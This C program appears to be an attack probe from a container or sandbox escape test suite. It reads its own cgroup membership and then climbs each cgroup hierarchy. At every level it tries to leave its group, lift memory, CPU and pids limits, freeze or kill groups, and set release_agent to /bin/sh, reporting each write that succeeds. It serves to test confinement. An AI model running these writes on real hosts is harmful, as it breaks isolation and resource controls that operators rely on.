/* Leaves its cgroup, and changes the limits of it and of those above it, in every hierarchy. */
#include "attack.h"
#include <fcntl.h>
#include <linux/magic.h>
#include <sys/stat.h>
#include <sys/vfs.h>

static const char *const changes[][2] = {
    {"cgroup.procs", "0"}, {"tasks", "0"}, {"memory.max", "max"}, {"memory.limit_in_bytes", "-1"}, {"pids.max", "max"},
    {"cpu.max", "max"}, {"cpu.cfs_quota_us", "-1"}, {"cgroup.freeze", "1"}, {"cgroup.kill", "1"},
    {"cgroup.subtree_control", "-pids"}, {"release_agent", "/bin/sh"}, {"notify_on_release", "1"},
};

/* climb tries the group that path names, and then each above it, up to the mount. */
static void climb(char *path, size_t mount)
{
    for (;;) {
        char file[4200];
        for (size_t i = 0; i < sizeof changes / sizeof *changes; i++) {
            snprintf(file, sizeof file, "%s/%s", path, changes[i][0]);
            int fd = open(file, O_WRONLY);
            if (fd >= 0 && write(fd, changes[i][1], strlen(changes[i][1])) > 0)
                broke(file);
        }
        snprintf(file, sizeof file, "%s/below", path);
        if (mkdir(file, 0755) == 0)
            broke(file);
        char *slash = strrchr(path, '/');
        if (!slash || slash < path + mount)
            return;
        *slash = 0;
    }
}

int main(void)
{
    FILE *own = fopen("/proc/self/cgroup", "r");
    char line[2048], path[4096];
    int groups = 0;
    if (!own)
        return 1;
    while (fgets(line, sizeof line, own)) {
        char *controllers = strchr(line, ':'), *group = controllers ? strchr(++controllers, ':') : NULL;
        if (!group)
            return 1;
        *group++ = 0;
        group[strcspn(group, "\n")] = 0;
        const char *const mounts[] = {"/sys/fs/cgroup", "/sys/fs/cgroup/unified", "/sys/fs/cgroup/%s"};
        for (size_t i = 0; i < 3; i++) {
            int mount = snprintf(path, sizeof path, mounts[i], controllers);
            struct statfs st;
            snprintf(path + mount, sizeof path - mount, "%s", strcmp(group, "/") == 0 ? "" : group);
            if (statfs(path, &st) == 0 && (st.f_type == CGROUP_SUPER_MAGIC || st.f_type == CGROUP2_SUPER_MAGIC)) {
                groups++;
                climb(path, mount);
            }
        }
    }
    return groups > 0 ? 0 : 1;
}
